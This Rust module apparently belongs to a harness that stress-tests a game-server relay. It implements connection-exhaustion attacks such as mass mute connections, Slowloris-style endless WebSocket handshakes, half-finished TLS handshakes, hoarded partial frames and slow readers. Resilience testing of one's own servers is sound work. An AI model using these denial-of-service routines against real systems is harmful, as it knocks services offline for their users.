//! Abuses of connections rather than of messages: many of them, mute ones, ones
//! that come and go, handshakes that never end, readers that do not read.

#![expect(
    clippy::unnecessary_wraps,
    reason = "all abuses have one signature; some have nothing that can fail"
)]

use std::collections::VecDeque;
use std::io::{self, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::time::Duration;

use lagometer_protocol::messages::channeldpb::ChannelDataAccess;
use rustls::pki_types::ServerName;
use rustls::{ClientConfig, ClientConnection, RootCertStore};
use socket2::SockRef;

use super::attacker::{Attacker, reset};
use super::payloads::{self, BINARY, Packet, websocket_frame};

/// Connections that are kept open at once. Less than the number of files that a
/// process may have open here.
const MANY: usize = 12_000;

/// The same where each costs memory by what was sent over it.
const SOME: usize = 1000;

/// Readers that do not read.
const READERS: usize = 40;

/// Addresses that send bursts in turn.
const BURSTING: usize = 8;

/// Longer than any attack.
const FOR_EVER: Duration = Duration::from_hours(1);

/// Opens connections and keeps those that stand, `most` at once; whoever is
/// closed makes room for another. `greet` sends what each begins with, `each`
/// what it says about every tenth of a second.
fn crowd(
    attacker: &Attacker,
    to: SocketAddr,
    most: usize,
    addresses: usize,
    greet: impl Fn(&mut TcpStream),
    each: impl Fn(&mut TcpStream) -> bool,
) -> io::Result<()> {
    let mut open: VecDeque<TcpStream> = VecDeque::new();
    let mut number = 0;
    while attacker.goes_on() {
        if open.len() < most {
            number += 1;
            if let Some(mut stream) = attacker.connect(number % addresses, to)
                && stream.set_nonblocking(true).is_ok()
            {
                greet(&mut stream);
                open.push_back(stream);
            }
        }
        if open.len() >= most || number % SOME == 0 {
            open.retain_mut(|stream| each(stream) && stands(stream));
            attacker.hold(Duration::from_millis(100), || {});
        }
    }
    for stream in open {
        reset(stream);
    }
    Ok(())
}

/// Whether a connection that says nothing still stands.
fn stands(stream: &TcpStream) -> bool {
    match stream.peek(&mut [0]) {
        Ok(bytes) => bytes > 0,
        Err(error) => super::attacker::is_later(&error),
    }
}

/// Nothing is said.
fn silence(_: &mut TcpStream) {}

/// Says nothing, which always works.
fn stays(_: &mut TcpStream) -> bool {
    true
}

/// Mute connections from one address.
pub(super) fn mute(attacker: &Attacker) -> io::Result<()> {
    crowd(
        attacker,
        attacker.target.endpoints.tcp,
        MANY,
        1,
        silence,
        stays,
    )
}

/// Mute connections from thousands of addresses.
pub(super) fn mute_from_everywhere(attacker: &Attacker) -> io::Result<()> {
    let to = attacker.target.endpoints.tcp;
    crowd(attacker, to, MANY, MANY, silence, stays)
}

/// Mute connections where game servers connect.
pub(super) fn mute_servers(attacker: &Attacker) -> io::Result<()> {
    let to = attacker.target.endpoints.servers;
    crowd(attacker, to, MANY, 1, silence, stays)
}

/// Frames that are announced and never end.
pub(super) fn half_frames(attacker: &Attacker) -> io::Result<()> {
    let whole = payloads::full_frame(|packet| payloads::put_login(packet, "half", "half"));
    let half = whole[..whole.len() - 1].to_vec();
    let greet = |stream: &mut TcpStream| {
        // As much as is taken at once: the rest is of no account.
        attacker.sent(stream.write(&half).unwrap_or(0));
    };
    crowd(
        attacker,
        attacker.target.endpoints.tcp,
        SOME,
        SOME,
        greet,
        stays,
    )
}

/// Connections that go as soon as they stand.
pub(super) fn come_and_go(attacker: &Attacker) -> io::Result<()> {
    for number in 0.. {
        if !attacker.goes_on() {
            break;
        }
        if let Some(stream) = attacker.connect(number, attacker.target.endpoints.tcp) {
            reset(stream);
        }
    }
    Ok(())
}

/// Logins that go before they are answered.
pub(super) fn log_in_and_go(attacker: &Attacker) -> io::Result<()> {
    let logins = payloads::full_frame(|packet| payloads::put_login(packet, "gone", "wrong"));
    for number in 0.. {
        if !attacker.goes_on() {
            break;
        }
        if let Some(mut stream) = attacker.connect(number, attacker.target.endpoints.tcp) {
            attacker.send_all(&mut stream, &logins);
            // A farewell, so that what was sent is read first.
            drop(stream);
        }
    }
    Ok(())
}

/// Logins that are answered, one frame of as many messages as it may have, and gone
/// before they are to be paid for.
pub(super) fn burst_and_go(attacker: &Attacker) -> io::Result<()> {
    let room = attacker.target.rooms[0];
    let burst = payloads::longest_burst(|packet| packet.put(room, payloads::USER, &[]));
    for number in 0.. {
        if !attacker.goes_on() {
            break;
        }
        if let Some(mut stream) = attacker.log_in(number % BURSTING) {
            attacker.send_all(&mut stream, &burst);
            drop(stream);
        }
    }
    Ok(())
}

/// WebSocket handshakes that never end.
pub(super) fn endless_handshakes(attacker: &Attacker) -> io::Result<()> {
    let greet = |stream: &mut TcpStream| {
        let head = b"GET / HTTP/1.1\r\nHost: gateway\r\nX-Padding: ";
        attacker.sent(stream.write(head).unwrap_or(0));
    };
    let drip = |stream: &mut TcpStream| {
        let bytes = stream.write(b"x");
        attacker.sent(*bytes.as_ref().unwrap_or(&0));
        bytes.is_ok()
    };
    let to = attacker.target.endpoints.websocket;
    crowd(attacker, to, 4 * SOME, 4 * SOME, greet, drip)
}

/// WebSocket messages that are announced, sent but for the last byte, and kept
/// waiting.
pub(super) fn hoarded_messages(attacker: &Attacker) -> io::Result<()> {
    let message = websocket_frame(BINARY, &vec![0; (1 << 20) - 1]);
    let mut open = Vec::new();
    for number in 0..200 {
        if !attacker.goes_on() {
            break;
        }
        if let Some(mut stream) = attacker.open_websocket(number) {
            attacker.send_all(&mut stream, &message[..message.len() - 1]);
            open.push(stream);
        }
    }
    attacker.hold(FOR_EVER, || {});
    for stream in open {
        reset(stream);
    }
    Ok(())
}

/// TLS handshakes, each ended after the costly answer.
pub(super) fn tls_handshakes(attacker: &Attacker) -> io::Result<()> {
    let hello = client_hello()?;
    for number in 0.. {
        if !attacker.goes_on() {
            break;
        }
        if let Some(mut stream) = attacker.connect(number, attacker.target.endpoints.tls) {
            attacker.send_all(&mut stream, &hello);
            reset(stream);
        }
    }
    Ok(())
}

/// TLS handshakes that stop half-way.
pub(super) fn half_tls_handshakes(attacker: &Attacker) -> io::Result<()> {
    let hello = client_hello()?;
    let greet = |stream: &mut TcpStream| attacker.sent(stream.write(&hello).unwrap_or(0));
    let to = attacker.target.endpoints.tls;
    crowd(attacker, to, 4 * SOME, 4 * SOME, greet, stays)
}

/// How a TLS client begins. The same serves for every connection: it is not the
/// client that does the work.
fn client_hello() -> io::Result<Vec<u8>> {
    let config = ClientConfig::builder()
        .with_root_certificates(RootCertStore::empty())
        .with_no_client_auth();
    let name = ServerName::try_from("localhost").map_err(io::Error::other)?;
    let mut client = ClientConnection::new(Arc::new(config), name).map_err(io::Error::other)?;
    let mut hello = Vec::new();
    client.write_tls(&mut hello)?;
    Ok(hello)
}

/// Players who subscribe to everything as often as they may and never read.
pub(super) fn slow_readers(attacker: &Attacker) -> io::Result<()> {
    let mut wishes = Packet::default();
    for &room in &attacker.target.rooms {
        let options = payloads::greedy(ChannelDataAccess::ReadAccess);
        payloads::put_subscription(&mut wishes, room, options);
    }
    let wishes = wishes.frame();
    let mut open: VecDeque<TcpStream> = VecDeque::new();
    let mut number = 0;
    while attacker.goes_on() {
        if open.len() < READERS {
            number += 1;
            if let Some(mut stream) = attacker.log_in(number) {
                // The smallest that the system gives.
                let _ = SockRef::from(&stream).set_recv_buffer_size(1);
                attacker.send_all(&mut stream, &wishes);
                open.push_back(stream);
            }
        } else {
            attacker.hold(Duration::from_secs(1), || {});
            // Whoever was thrown out is replaced, a few at a time.
            let oldest = open.drain(..READERS / 8).collect::<Vec<_>>();
            oldest.into_iter().for_each(reset);
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_client_hello_is_a_handshake_record() {
        let hello = client_hello().unwrap();
        // RFC 8446, section 5.1: type 22, legacy version, length; then a
        // message of type 1.
        assert_eq!((hello[0], hello[5]), (22, 1));
        let length = usize::from(u16::from_be_bytes([hello[3], hello[4]]));
        assert_eq!(hello.len(), 5 + length);
    }
}
